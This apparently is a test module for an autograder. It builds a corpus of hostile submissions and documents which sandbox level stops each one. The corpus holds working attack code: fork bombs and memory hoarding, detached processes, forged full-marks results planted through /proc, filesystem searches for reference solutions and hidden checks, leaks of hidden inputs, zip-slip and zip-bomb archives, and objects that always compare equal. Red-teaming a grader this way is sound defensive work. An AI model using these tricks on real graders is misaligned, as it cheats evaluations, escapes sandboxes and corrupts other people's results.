"""The hostile corpus: submissions that try to cheat, crash or escape the grader.

Each case is the honest but imperfect submission (the reference with add's ``=``-instead-of-
``+=`` bug) plus one trick, so a case that scores above ``honest`` gained from its trick.
A case names the isolation levels at which the grader cannot stop it, and why;
``tests/test_hostile.py`` grades the corpus at every level this machine offers and asserts
that every other case holds. ``python tests/hostile.py`` prints the table of
``docs/security.md`` from the same data (a test fails when the page is stale).

An attack that gets somewhere prints ``ESCAPED <what>``; the grader keeps the output in
``OUT/<id>/output.txt``, so the tests see both that a defence held and, where none exists,
that the attack is real.
"""
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

from conftest import ASSIGN_INSTEAD_OF_ADD, BACKWARD, in_backward, write_submission

HONEST = "honest"
LEVELS = ("bubblewrap", "unprivileged-user", "rlimits")


@dataclass(frozen=True)
class Case:
    name: str
    group: str
    trick: str
    stopped_by: str  # what holds it where it holds
    write: object  # write(place): puts the submission into place.subs
    weak: dict = field(default_factory=dict)  # level -> why it cannot hold there
    only_as_root: frozenset = frozenset()  # levels in ``weak`` that matter only when the grader is root
    # level -> why it cannot hold there when the grader is not root (no control groups)
    weak_unless_root: dict = field(default_factory=dict)

    def cannot_hold(self, level, root):
        """Why this case cannot hold at ``level``, or None."""
        if level in self.weak and (root or level not in self.only_as_root):
            return self.weak[level]
        if level in self.weak_unless_root and not root:
            return self.weak_unless_root[level]
        return None


@dataclass(frozen=True)
class Place:
    """Where one batch's corpus is written, and what its tricks aim at."""

    subs: Path
    marker: str  # names the processes the tricks start (/proc/<pid>/comm), unique per run
    port: int  # a listener on 127.0.0.1 in the test process
    zip_bomb: Path  # built once per session: 1 GB of zeros, compressed


def honest(place, name, *patches, before="", after=""):
    return write_submission(place.subs, name, ASSIGN_INSTEAD_OF_ADD, *patches, before=before, after=after)


def trick_after(code):
    """A case whose trick runs at import, after the honest code."""
    return lambda place, name: honest(place, name, after=code.replace("MARKER", place.marker)
                                      .replace("PORT", str(place.port)))


def trick_in_backward(statement):
    """A case whose trick runs first thing in backward()."""
    return lambda place, name: honest(place, name, in_backward(statement))


# --- lying objects -----------------------------------------------------------------------

LIAR = '''
class Liar(float):
    """A float that claims to equal anything."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return False
    def __gt__(self, other): return False
    __le__ = __ge__ = __eq__
    __hash__ = float.__hash__

'''


def liar_grad(place, name):
    patch = ("self.grad = out.grad\n            other.grad = out.grad",
             "self.grad = Liar(out.grad)\n            other.grad = Liar(out.grad)")
    honest(place, name, patch, before=LIAR)


MOCK_VALUE = LIAR + '''
class Value:
    """Every operation gives back a Value whose data and grad are Liars."""
    def __init__(self, data=0.0, _children=()):
        self.data, self.grad, self._prev, self._backward = Liar(1.0), Liar(1.0), set(), lambda: None
    def _any(self, *args, **kwargs):
        return Value()
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = _any
    __pow__ = __neg__ = relu = tanh = exp = _any
    def __eq__(self, other): return True
    __hash__ = object.__hash__
    def backward(self): pass
    def __repr__(self): return "Value(data=5.0, grad=0.0)"
'''

POISON = '''
_honest_backward = Value.backward
def backward(self):
    """The honest sweep, then every gradient NaN or infinite."""
    _honest_backward(self)
    nodes, stack = set(), [self]
    while stack:
        node = stack.pop()
        if id(node) not in nodes:
            nodes.add(id(node))
            node.grad = [float("nan"), float("inf"), -float("inf")][len(nodes) % 3]
            stack.extend(node._prev)
    self.data = float("nan")
Value.backward = backward
'''

# --- escaping the worker's limits --------------------------------------------------------

FORK_STORM = '''
import os, time
forked = 0
for _ in range(100):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        with open("/proc/self/comm", "w") as comm:
            comm.write("MARKER-f")
        time.sleep(300)
        os._exit(0)
    forked += 1
print("forked", forked, "sleeping children")
'''

# Children that each take what the per-process address-space limit allows; each reports
# every chunk it holds (written to, so really in memory) to the worker, which adds them up.
FORK_HOARD = '''
import os, select, time
CHILDREN, CHUNK, EACH = 4, 64 << 20, 600 << 20
reports, report = os.pipe()
children = []
for number in range(CHILDREN):
    pid = os.fork()
    if pid == 0:
        os.close(reports)
        with open("/proc/self/comm", "w") as comm:
            comm.write("MARKER-h")
        with open("/proc/self/oom_score_adj", "w") as adjust:
            adjust.write("1000")  # when memory runs out, the kernel takes a child, not the worker
        held = []
        try:
            while len(held) * CHUNK < EACH:
                held.append(b"x" * CHUNK)
                os.write(report, bytes([number]))
        except MemoryError:
            pass
        os.write(report, b"=")
        time.sleep(300)
        os._exit(0)
    children.append(pid)
os.close(report)
chunks, finished, gone = [0] * CHILDREN, 0, set()
def reap():
    for number, pid in enumerate(children):
        if number not in gone and os.waitpid(pid, os.WNOHANG)[0]:
            gone.add(number)
deadline = time.monotonic() + 120
try:  # the grader may stop this top-level code (its time budget): report what was seen by then
    while finished + len(gone) < CHILDREN and time.monotonic() < deadline:
        if select.select([reports], [], [], 0.2)[0]:
            for byte in os.read(reports, 4096):
                if byte == ord("="):
                    finished += 1
                else:
                    chunks[byte] += 1
        reap()
    time.sleep(0.5)
except BaseException:
    pass
reap()
# What the children alive now hold at once: each sleeps on every chunk it reported.
held = sum(count for number, count in enumerate(chunks) if number not in gone)
print("HOARDED", held * CHUNK >> 20, "MB at once in", CHILDREN - len(gone), "children;", len(gone), "killed")
for pid in children:
    try:
        os.kill(pid, 9)
    except OSError:
        pass
'''

DETACHED_CHILD = '''
import os, time
if os.fork() == 0:
    os.setsid()  # a session and process group of its own: out of reach of killpg
    if os.fork() == 0:
        with open("/proc/self/comm", "w") as comm:
            comm.write("MARKER-d")
        os.closerange(3, 4096)
        time.sleep(300)
    os._exit(0)
'''

FILL_DISK = '''
import os
total = 0
for place, folder in enumerate([".", "/tmp", "/var/tmp", "/dev/shm", "/"]):
    for number in range(8):
        try:
            with open(os.path.join(folder, f"MARKER-{place}{number}"), "wb") as stream:
                for _ in range(10):
                    stream.write(bytes(1 << 20))
                    total += 1
        except OSError:
            break
print("wrote", total, "MB")
if total > 70:  # its 64 MB working folder, and 1 MB tmpfs over the shared folders
    print("ESCAPED wrote", total, "MB: more than its 64 MB scratch space")
'''
HOST_SCRATCH = ("/tmp", "/var/tmp", "/dev/shm", "/")  # where FILL_DISK's files would persist

# --- forging results -----------------------------------------------------------------------

FULL_MARKS = '{"score": 100, "tests": [], "extra_data": {"submission": "forged", "status": "graded"}}'

FORGE = '''
import os
def forge(path):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as stream:
            stream.write(FULL)
        print("wrote", os.path.abspath(path))
    except OSError as error:
        print("blocked:", path, type(error).__name__)
forge(TARGET)
'''


def forge(target):
    """Whether the file lands outside the sandbox only the host can tell: the tests look there."""
    return trick_after(FORGE.replace("FULL", repr(FULL_MARKS)).replace("TARGET", repr(target)))


FORGE_OUT = '''
import os, re
def grader_command():
    """The nearest ancestor that looks like `autodiff101 grade ... -o OUT`: (cwd, argv)."""
    pid = os.getppid()
    while pid > 1:
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\\0")
            if "grade" in argv and "-o" in argv:
                return os.readlink(f"/proc/{pid}/cwd"), argv
            pid = int(re.search(r"PPid:\\s*(\\d+)", open(f"/proc/{pid}/status").read()).group(1))
        except (OSError, AttributeError, ValueError):
            return None
    return None
found = grader_command()
print("grader command:", found)
if found:
    cwd, argv = found
    out = os.path.join(cwd, argv[argv.index("-o") + 1])
    paths = [p for p in argv[argv.index("grade") + 1:argv.index("-o")] if os.path.isdir(os.path.join(cwd, p))]
    writes = [(os.path.join(out, "forge-out", "results.json"), FULL),
              (os.path.join(out, "honest", "results.json"), FULL.replace("100", "0")),
              (os.path.join(out, "grades.csv"), "submission,score\\nforge-out,100\\n")]
    for folder in paths:  # other students' submissions, before they are graded
        writes.append((os.path.join(cwd, folder, "planted.py"), "x = 1\\n"))
    for path, text in writes:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as stream:
                stream.write(text)
            print("ESCAPED wrote", path)
        except OSError as error:
            print("blocked:", path, type(error).__name__)
'''.replace("FULL", repr(FULL_MARKS))

# --- the oracle ----------------------------------------------------------------------------

ORACLE = '''
import os, sys, time
def search(deadline):
    """Folders holding the reference (solutions/engine.py) and the hidden checks (checks.toml)."""
    solutions = [os.path.join(p, "solutions") for p in sys.path if os.path.isfile(os.path.join(p, "solutions", "nn.py"))]
    checks, seen = [], set()
    for root in ["/work", "/srv", "/opt", "/home", "/root", "/tmp", "/var", "/usr/local", "/"]:
        for folder, subfolders, files in os.walk(root):
            if time.monotonic() > deadline or folder in seen:
                subfolders[:] = []
                continue
            seen.add(folder)
            subfolders[:] = [s for s in subfolders if folder != "/" or s not in ("proc", "sys", "dev")]
            if folder.count("/") > 8:
                subfolders[:] = []
            if os.path.basename(folder) == "solutions" and {"engine.py", "nn.py"} <= set(files):
                solutions.append(folder)
            if "checks.toml" in files or "checks.py" in files:
                checks.append(folder)
    return solutions, checks
solutions, checks = search(time.monotonic() + 2.0)
print("found solutions:", solutions[:3], "checks:", checks[:3])
for folder in solutions:
    try:
        sys.path.insert(0, os.path.dirname(folder))
        from solutions.engine import Value
        from solutions.nn import Module, Neuron, Layer, MLP
        print("ESCAPED imported the reference from", folder)
        break
    except Exception as error:
        print("could not import", folder, error)
for folder in checks:
    try:
        open(os.path.join(folder, "checks.toml")).read(100)
        print("ESCAPED read the checks in", folder)
        break
    except OSError:
        pass
'''

# The allowed packages are a way into the grader's site-packages, where the kit is installed.
PACKAGES_ORACLE = '''
import os
import numpy
beside = os.path.dirname(os.path.dirname(os.path.realpath(numpy.__file__)))
try:
    names = sorted(os.listdir(beside))
except OSError as error:
    names = []
    print("could not list", beside, type(error).__name__)
print("beside numpy:", names[:30])
kit = [n for n in names if n.startswith(("autograder", "solutions", "autodiff101", "__editable__", "pytest"))
       or n.endswith(".pth")]
if kit:
    print("ESCAPED found beside numpy:", kit)
for module in ("autograder", "solutions", "pytest", "nbformat"):
    try:
        __import__(module)
        print("ESCAPED imported", module)
    except ImportError:
        pass
'''

LEAK = """\
        nodes, stack, data = set(), [self], []
        while stack:  # every number of the check's graph, in the exception's message
            node = stack.pop()
            if id(node) not in nodes:
                nodes.add(id(node))
                data.append(node.data)
                stack.extend(node._prev)
        raise ValueError("LEAK " + repr(data))
"""

# The check's numbers spelled in letters: what a hidden check's message would let through.
SPELLED = """\
        nodes, stack, letters = set(), [self], ""
        while stack:
            node = stack.pop()
            if id(node) not in nodes:
                nodes.add(id(node))
                letters += "abcdefghijklmnopqrstuvwxyz"[int(abs(node.data)) % 26]
                stack.extend(node._prev)
"""

LEAK_BY_PHASE = SPELLED + """\
        import os, re
        command = open("/proc/self/cmdline").read().replace(chr(0), " ")
        phase_fd = int(re.findall(r"\\d+", command.split("serve(", 1)[1])[-1])  # its last argument
        try:  # the phase record the grader reads after a fault
            os.pwrite(phase_fd, ("LEAK " + letters).encode().ljust(256, bytes(1)), 0)
        except OSError:  # or the reply channel, where phases are lines
            os.write(phase_fd, ('{"phase": "LEAK ' + letters + '"}' + chr(10)).encode())
        os._exit(0)
"""

LEAK_BY_NAMES = SPELLED + """\
        code = "\\n" * 7 + f"def LEAK{letters}():\\n    raise type('LEAK{letters}', (Exception,), {{}})()\\n"
        names = {}
        exec(compile(code, f"LEAK{letters}.py", "exec"), names)
        names[f"LEAK{letters}"]()
"""

NETWORK = '''
import socket
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as connection:
        connection.sendall(b"MARKER")
    print("ESCAPED connected to 127.0.0.1:PORT")
except OSError as error:
    print("blocked:", type(error).__name__, error)
'''

# --- malformed inputs ------------------------------------------------------------------------


def zip_climbing_out(place, name):
    module = write_submission(place.subs / ".build", name, ASSIGN_INSTEAD_OF_ADD).read_text()
    with zipfile.ZipFile(place.subs / f"{name}.zip", "w") as archive:
        archive.writestr("submission.py", module)
        archive.writestr(f"../../escaped-{place.marker}.py", "x = 1\n")


def symlinks_to_reference(place, name):
    import solutions

    folder = place.subs / name
    folder.mkdir()
    for file in ("engine.py", "nn.py"):
        (folder / file).symlink_to(Path(solutions.__file__).with_name(file))


def zip_bomb(place, name):
    (place.subs / f"{name}.zip").write_bytes(place.zip_bomb.read_bytes())


def huge_source(place, name):
    path = honest(place, name)
    with open(path, "a") as stream:
        line = "# " + "padding " * 12 + "\n"
        stream.write(line * (30 * 1024 * 1024 // len(line) + 1))


def not_utf8(place, name):
    path = honest(place, name)
    path.write_bytes(path.read_bytes() + b"\n# caf\xe9 \xff\xfe\n")


def markdown_only(place, name):
    import nbformat

    cells = [nbformat.v4.new_markdown_cell("# My autodiff\n\nI explain backward() in words.")]
    (place.subs / f"{name}.ipynb").write_text(nbformat.writes(nbformat.v4.new_notebook(cells=cells)))


def build_zip_bomb(path, size=1 << 30):
    """A zip of one member holding ``size`` zero bytes, streamed: never on disk inflated."""
    chunk = bytes(1 << 20)
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        with archive.open("submission.py", "w", force_zip64=True) as member:
            for _ in range(size // len(chunk)):
                member.write(chunk)
    return path


# --- the corpus ------------------------------------------------------------------------------

ROOT_WRITES = "the worker runs as the grader's user (root at this level), so it writes wherever the grader can"
SAME_USER = "the worker runs as the grader's user, so it can write what the grader writes"
WRITES_HOST = "the worker writes wherever the grader's user can, on the host's disk"
SEES_HOST = "the worker reads every file its user can read"
NO_CGROUPS = ("without control groups (only root can make them) the bound is per process: "
              "64 processes of 1 GB each")

CASES = [
    Case("liar-grad", "lying objects", "`grad` is a float subclass whose comparisons all claim equality",
         "only plain JSON numbers leave the worker; the judge compares them", liar_grad),
    Case("mock-value", "lying objects", "a mock `Value` whose every operation returns such an object",
         "only plain JSON numbers leave the worker", lambda place, name: honest(place, name, after=MOCK_VALUE)),
    Case("nan-and-inf", "lying objects", "after the honest sweep every grad is NaN or ±inf, the root's data NaN",
         "the judge accepts only finite numbers", trick_after(POISON)),
    Case("sys-exit-in-backward", "exits", "`sys.exit(0)` inside `backward()`",
         "SystemExit is caught and reported as the check's failure",
         trick_in_backward("import sys; sys.exit(0)")),
    Case("os-exit-at-import", "exits", "`os._exit(0)` at import",
         "a worker that exits while loading is a crashed row", trick_after("import os; os._exit(0)\n")),
    Case("keyboard-interrupt", "exits", "SIGINT to itself in `backward()`, an uncaught KeyboardInterrupt",
         "KeyboardInterrupt is caught in the worker; the grader is another process",
         trick_in_backward("import os, signal; os.kill(os.getpid(), signal.SIGINT)")),
    Case("endless-loop", "exhaustion", "`while True: pass` in `backward()`",
         "per-check timeout, then the submission's time budget", trick_in_backward("while True: pass")),
    Case("memory-at-import", "exhaustion", "allocates without bound at import",
         "RLIMIT_AS: MemoryError", trick_after("hoard = []\nwhile True:\n    hoard.append(bytearray(64 << 20))\n")),
    Case("fork-storm", "exhaustion", "forks up to 100 children that sleep 300 s",
         "RLIMIT_NPROC (as nobody); the worker's process group is killed", trick_after(FORK_STORM)),
    Case("fork-hoard", "exhaustion", "forks 4 children that each fill 600 MB, under the 1 GB address-space "
         "limit of each process", "a control group per worker: 1 GB for the worker and all its children "
         "together (and 64 processes)", trick_after(FORK_HOARD),
         weak_unless_root={level: NO_CGROUPS for level in LEVELS}),
    Case("stdout-flood", "exhaustion", "prints 100 MB",
         "stdout is capped in the worker", trick_after("for _ in range(100):\n    print('x' * (1 << 20))\n")),
    Case("stdout-flood-fd", "exhaustion", "writes 100 MB straight to file descriptor 1",
         "RLIMIT_FSIZE: writes fail past 16 MB (Python ignores SIGXFSZ, so they raise)",
         trick_after("import os\nfor _ in range(100):\n    os.write(1, b'x' * (1 << 20))\n")),
    Case("fill-disk", "exhaustion", "writes 80 MB into each of its working folder, /tmp, /var/tmp, /dev/shm and /",
         "only size-limited tmpfs are writable (the host's shared folders covered at unprivileged-user)",
         trick_after(FILL_DISK),
         weak={"rlimits": WRITES_HOST}),
    Case("segfault", "crashes", "dereferences NULL through ctypes in `backward()`",
         "the check fails alone; a fresh worker runs the rest",
         trick_in_backward("import ctypes; ctypes.string_at(0)")),
    Case("deep-recursion", "crashes", "raises the recursion limit and recurses through C until the stack overflows",
         "the check fails alone; a fresh worker runs the rest",
         trick_in_backward("import sys; sys.setrecursionlimit(10**7); deep = lambda n: list(map(deep, [n + 1])); deep(0)")),
    Case("forge-cwd", "forging", "writes a full-marks `results.json` to its working folder",
         "the working folder is the worker's own scratch space; nobody reads it", forge("results.json")),
    Case("forge-parent", "forging", "writes one to `../results/results.json`",
         "read-only or root-owned parent folder; at rlimits it lands in the grader's temporary folder, "
         "which is deleted and never read", forge("../results/results.json")),
    Case("forge-autograder", "forging", "writes one to `/autograder/results/results.json`",
         "a read-only root (bubblewrap) or a root folder nobody cannot write",
         forge("/autograder/results/results.json"), weak={"rlimits": ROOT_WRITES},
         only_as_root=frozenset({"rlimits"})),
    Case("forge-out", "forging", "finds OUT and the submissions in the grader's command line (/proc) and "
         "writes results, grades.csv and a planted submission there",
         "a private pid namespace hides the grader; OUT and the submissions are not mounted or covered",
         trick_after(FORGE_OUT), weak={"rlimits": SAME_USER}),
    Case("oracle", "the oracle", "searches sys.path and the file system for `solutions/` and `checks.toml`, "
         "imports the reference in place of its own code",
         "only the interpreter, its standard library, probes.py and the submission are mounted",
         trick_after(ORACLE),
         weak={"unprivileged-user": SEES_HOST + " as nobody: any world-readable copy of the reference "
               "outside /tmp, /var/tmp and /dev/shm (another checkout, an install in /opt) is found",
               "rlimits": SEES_HOST}),
    Case("oracle-via-packages", "the oracle", "imports numpy (allowed), then looks for the kit in the folder "
         "numpy came from and imports other installed packages",
         "the allowed packages are bound one by one into a folder of their own; site-packages stays covered",
         trick_after(PACKAGES_ORACLE), weak={"rlimits": SEES_HOST}),
    Case("detached-child", "escaping time limits", "a double-forked child in its own session, then "
         "`while True` in `backward()` so the worker is killed",
         "the worker's pid namespace dies with it; at rlimits, its control group is killed whole",
         lambda place, name: honest(
             place, name, in_backward("while True: pass"), after=DETACHED_CHILD.replace("MARKER", place.marker)),
         weak_unless_root={"rlimits": "no pid namespace, and no control group to kill it by (root only): "
                           "a child in its own session escapes the process-group kill"}),
    Case("leak-hidden-inputs", "leaking hidden inputs", "raises in `backward()` with every number of the "
         "check's graph in the message, to read hidden checks' inputs in its feedback",
         "a hidden check's feedback never shows an exception's message",
         lambda place, name: honest(place, name, (BACKWARD, BACKWARD + LEAK))),
    Case("leak-by-phase", "leaking hidden inputs", "spells the check's numbers in letters into its phase "
         "record (\"the worker exited during ...\"), then exits",
         "a hidden check names only the probes' own phases", lambda place, name: honest(
             place, name, (BACKWARD, BACKWARD + LEAK_BY_PHASE))),
    Case("leak-by-names", "leaking hidden inputs", "raises an exception class, from a function and a file, "
         "each named with the check's numbers spelled in letters",
         "a hidden check names only built-in exceptions, and no file, line or function",
         lambda place, name: honest(place, name, (BACKWARD, BACKWARD + LEAK_BY_NAMES))),
    Case("network", "the network", "connects to a listener on 127.0.0.1",
         "a network namespace of its own, with nothing listening", trick_after(NETWORK),
         weak={"rlimits": "the worker shares the host's network"}),
    Case("zip-climbing-out", "malformed", "a zip with a `../../` member", "rejected before extraction",
         zip_climbing_out),
    Case("symlink-to-reference", "malformed", "a folder whose `engine.py` and `nn.py` are symbolic links to "
         "the reference", "rejected: the loader, outside any sandbox, never follows a link", symlinks_to_reference),
    Case("zip-bomb", "malformed", "a zip of 1 GB of zeros, 4.5 MB compressed",
         "rejected from the sizes in its header; at most the limit is ever inflated", zip_bomb),
    Case("huge-source", "malformed", "a 30 MB .py file", "rejected by size before reading", huge_source),
    Case("not-utf8", "malformed", "bytes that are not UTF-8", "a load error naming the line and column", not_utf8),
    Case("markdown-only", "malformed", "a notebook of markdown cells only", "a load error: no code",
         markdown_only),
]
BY_NAME = {case.name: case for case in CASES}


def write_corpus(place):
    """The honest submission and every case, into ``place.subs``."""
    place.subs.mkdir(parents=True, exist_ok=True)
    honest(place, HONEST)
    for case in CASES:
        case.write(place, case.name)
    import shutil

    shutil.rmtree(place.subs / ".build", ignore_errors=True)


def table(root=True):
    """The outcome of every case per isolation level, as Markdown (docs/security.md)."""
    lines = ["| case | trick | " + " | ".join(LEVELS) + " | what stops it |",
             "| --- | --- | " + " | ".join("---" for _ in LEVELS) + " | --- |"]
    notes = []
    for case in CASES:
        cells = []
        for level in LEVELS:
            reason = case.cannot_hold(level, root)
            if reason is None:
                cells.append("held")
                continue
            if reason not in notes:
                notes.append(reason)
            cells.append(f"**not stopped** ({notes.index(reason) + 1})")
        lines.append(f"| `{case.name}` | {case.trick} | {' | '.join(cells)} | {case.stopped_by} |")
    lines.append("")
    lines += [f"- ({number}) {reason}." for number, reason in enumerate(notes, start=1)]
    return "\n".join(lines) + "\n"


if __name__ == "__main__":
    sys.stdout.write(table())
